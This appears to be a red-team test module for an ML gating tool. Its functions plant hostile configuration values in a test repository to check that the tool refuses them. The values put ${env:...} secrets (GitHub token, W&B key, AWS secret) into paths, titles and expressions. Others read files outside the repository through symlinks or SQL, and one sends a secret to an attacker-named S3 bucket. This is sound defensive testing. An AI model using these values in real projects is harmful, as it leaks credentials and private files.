"""Secrets of the job, asked for by the configuration: a single job has them, a fork's has none."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.redteam.trick import ANY, ERROR, INTENT, RED, Mode, trick

if TYPE_CHECKING:
    from tests.redteam.outcome import Outcome
    from tests.redteam.repository import Repository

SINGLE = (Mode.SINGLE, Mode.TWO_JOBS)


def _data(repo: Repository, path: str) -> None:
    repo.add_to_config(f"data: {{path: {path!r}, rules: [{{column: missing, min: 0}}]}}")
    repo.configure("gates:\n", "gates:\n  data: {max_share: 0}\n")


@trick(ANY, INTENT, modes=(*SINGLE, Mode.EVIDENCE))
def token_in_the_path_of_data(repo: Repository) -> None:
    """Names data whose path holds the token: the error that it is not there would show it."""
    _data(repo, "x/${env:GITHUB_TOKEN}.csv")


@trick(ANY, INTENT, modes=(*SINGLE, Mode.EVIDENCE))
def secret_in_the_path_of_data(repo: Repository) -> None:
    """Names data whose path holds the tracking server's key."""
    _data(repo, "x/${env:WANDB_API_KEY}.csv")


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_a_glob(repo: Repository) -> None:
    """Names data by a pattern that holds a secret."""
    _data(repo, "${env:WANDB_API_KEY}*/**/[a].csv")


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_an_address(repo: Repository) -> None:
    """Names data at a database whose address holds a secret."""
    _data(repo, "postgres://127.0.0.1:9/${env:WANDB_API_KEY}?table=x")


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_the_path_of_predictions(repo: Repository) -> None:
    """Names predictions whose path holds a secret."""
    repo.configure("out/predictions.csv", '"out/${env:GITHUB_TOKEN}.csv"')


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_the_path_of_the_baseline(repo: Repository) -> None:
    """Names a baseline's file whose path holds a secret."""
    repo.add_to_config('baseline: {predictions: "out/${env:AWS_SECRET_ACCESS_KEY}.csv"}')


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_the_name_of_the_store(repo: Repository) -> None:
    """Names a branch as the store whose name holds a secret."""
    repo.add_to_config('baseline: {store: "branch:${env:WANDB_API_KEY}"}')


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_the_folder_of_the_store(repo: Repository) -> None:
    """Names a folder as the store whose name holds a secret."""
    repo.add_to_config('baseline: {store: "kept/${env:WANDB_API_KEY}"}')


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_the_reference_of_drift(repo: Repository) -> None:
    """Names a reference of drift whose path holds a secret."""
    repo.add_to_config(
        'drift: {reference: "${env:DATABASE_URL}.csv", current: out/predictions.csv}'
    )
    repo.configure("gates:\n", "gates:\n  drift: {max_share: 0}\n")


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_the_path_of_an_estimate(repo: Repository) -> None:
    """Names rows to be estimated whose path holds a secret."""
    repo.add_to_config('estimate: {path: "${env:WANDB_API_KEY}.csv"}')
    repo.configure("gates:\n", "gates:\n  estimate.accuracy: {min: 0.1}\n")


@trick(ANY, INTENT, modes=SINGLE)
def secret_as_the_key_of_ids(repo: Repository) -> None:
    """Hashes ids with the token."""
    repo.add_to_config('baseline: {id_key: "${env:GITHUB_TOKEN}"}')


@trick(ANY, INTENT, modes=SINGLE)
def secret_in_a_title(repo: Repository) -> None:
    """Asks for a secret where nothing is replaced: the title, the name of a gate, a reason."""
    repo.add_to_config(
        "waivers: [{gate: accuracy, reason: '${env:WANDB_API_KEY}', until: 2099-01-01}]"
    )
    repo.configure("{plots: none}", "{plots: none, title: 'Model ${env:WANDB_API_KEY}'}")


@trick(ANY, INTENT)
def file_outside_the_repository_as_data(repo: Repository) -> None:
    """Names a file outside of the repository as data: its first line would be in the report."""
    _data(repo, str(repo.root.parent.parent / "outside.csv"))


@trick(ANY, INTENT)
def file_outside_the_repository_as_a_schema(repo: Repository) -> None:
    """Names a file outside of the repository as the schema of its data."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(f"data: {{path: out/predictions.csv, schema: '{outside}'}}")
    repo.configure("gates:\n", "gates:\n  data: {max_share: 0}\n")


@trick(ANY, INTENT)
def file_outside_the_repository_as_numbers(repo: Repository) -> None:
    """Names a file outside of the repository as a file of numbers."""
    repo.add_to_config("metrics: {files: ['../../outside.csv']}")


@trick(ANY, INTENT)
def file_outside_the_repository_as_evidence(repo: Repository) -> None:
    """Names a file outside of the repository as another tool's result."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(f"evidence: {{import: ['{outside}']}}")


@trick(ANY, INTENT)
def link_out_of_the_repository_as_data(repo: Repository) -> None:
    """Commits a link to a file outside of the repository, and names it as data."""
    (repo.root / "data.csv").symlink_to(repo.root.parent.parent / "outside.csv")
    _data(repo, "data.csv")


@trick(ANY, INTENT)
def link_out_of_the_repository_as_predictions(repo: Repository) -> None:
    """Writes predictions as a link to a file outside of the repository."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.after_training(
        f'os.remove("out/predictions.csv"); os.symlink("{outside}", "out/predictions.csv")\n'
    )


@trick(ANY, INTENT)
def reading_of_files_in_an_expression(repo: Repository) -> None:
    """Lets a slice's expression read a file outside of the repository."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(f"slices: {{leak: \"(SELECT content FROM read_text('{outside}')) = 'x'\"}}")
    repo.configure("gates:\n", "gates:\n  accuracy[leak]: {min: 0.1}\n")


@trick(ANY, INTENT, modes=SINGLE)
def environment_in_an_expression(repo: Repository) -> None:
    """Lets a rule's expression read the environment, and fail with it."""
    repo.add_to_config(
        "data: {path: out/predictions.csv, rules: "
        "[{name: leak, expression: \"CAST(getenv('WANDB_API_KEY') AS INTEGER) = 1\"}]}"
    )
    repo.configure("gates:\n", "gates:\n  data.leak: {max: 0}\n")


@trick(RED, INTENT, modes=SINGLE)
def secret_in_a_first_configuration(repo: Repository) -> None:
    """Adds the first mlgate.yaml, which names a secret: nobody has merged it yet."""
    config = (repo.root / "mlgate.yaml").read_text()
    with repo.on_main():
        repo.remove("mlgate.yaml")
    repo.write("mlgate.yaml", config)
    repo.configure("out/predictions.csv", '"out/${env:WANDB_API_KEY}.csv"')


@trick(ERROR, INTENT, modes=SINGLE)
def secret_of_another_key(repo: Repository) -> None:
    """Names a variable that main names too, but at another key, where its value would be shown."""
    with repo.on_main():
        repo.add_to_config('baseline: {id_key: "${env:WANDB_API_KEY}"}')
    _data(repo, "x/${env:WANDB_API_KEY}.csv")


@trick(ERROR, INTENT, modes=SINGLE)
def secret_in_a_longer_value(repo: Repository) -> None:
    """Adds to a value of main's that names a secret, so that it leads elsewhere."""
    with repo.on_main():
        _data(repo, "x/${env:WANDB_API_KEY}.csv")
    repo.configure("x/${env", "../out/${env")


def _store_is_refused(outcome: Outcome) -> str | None:
    why = "baseline.store names the environment variable WANDB_API_KEY"
    if why not in outcome.console:
        return "it is not the store that is refused"
    return None if outcome.comments and why in outcome.comments[-1] else "no comment says why"


@trick(ERROR, INTENT, modes=SINGLE, posts=_store_is_refused)
def secret_of_another_key_as_the_store(repo: Repository) -> None:
    """Names a variable that main names too, but at another key, as the folder of the store."""
    with repo.on_main():
        repo.add_to_config('baseline: {keep: evidence, id_key: "${env:WANDB_API_KEY}"}')
    repo.configure("keep: evidence,", 'keep: evidence, store: "kept/${env:WANDB_API_KEY}",')


@trick(ERROR, INTENT, modes=SINGLE, posts=_store_is_refused)
def secret_in_a_longer_store(repo: Repository) -> None:
    """Adds to main's folder of the store, which names a secret, so that it leads elsewhere."""
    with repo.on_main():
        repo.add_to_config('baseline: {store: "../${env:WANDB_API_KEY}"}')
    repo.configure("../${env", "kept/${env")


@trick(ERROR, INTENT, modes=SINGLE)
def secret_sent_away(repo: Repository) -> None:
    """Names a bucket of somebody else's, so that the secret is in the request for it."""
    _data(repo, "s3://collected-by-mallory/${env:WANDB_API_KEY}.csv")


@trick(ERROR, INTENT, modes=SINGLE)
def file_outside_the_repository_as_groups(repo: Repository) -> None:
    """Names a file of groups outside of the repository, whose columns an error would list."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(
        f"fairness: {{sensitive: {{sex: {{column: sex, path: '{outside}', id: id}}}}}}"
    )
    repo.configure("gates:\n", "gates:\n  fairness.accuracy[sex=F]: {min: 0.1}\n")


@trick(ERROR, INTENT)
def file_outside_the_repository_as_a_baseline(repo: Repository) -> None:
    """Compares with a file outside of the repository: the error that it has no label lists it."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(f"baseline: {{predictions: '{outside}'}}")


@trick(ANY, INTENT)
def file_outside_the_repository_as_a_reference(repo: Repository) -> None:
    """Names a file outside of the repository on both sides of drift: its columns are results."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(f"drift: {{reference: '{outside}', current: '{outside}'}}")
    repo.configure("gates:\n", "gates:\n  drift: {max_share: 0}\n")


@trick(ANY, INTENT)
def file_outside_the_repository_as_rows_without_labels(repo: Repository) -> None:
    """Names a file outside of the repository as the rows of an estimate."""
    outside = repo.root.parent.parent / "outside.csv"
    repo.add_to_config(f"estimate: {{path: '{outside}'}}")
    repo.configure("gates:\n", "gates:\n  estimate.accuracy: {min: 0.1}\n")


@trick(ERROR, INTENT)
def column_that_a_file_outside_lacks(repo: Repository) -> None:
    """Asks for a column of main's own data outside of the repository: the error lists no others."""
    outside = repo.root.parent.parent / "outside.csv"
    with repo.on_main():
        _data(repo, str(outside))
    repo.configure("column: missing", "column: another")
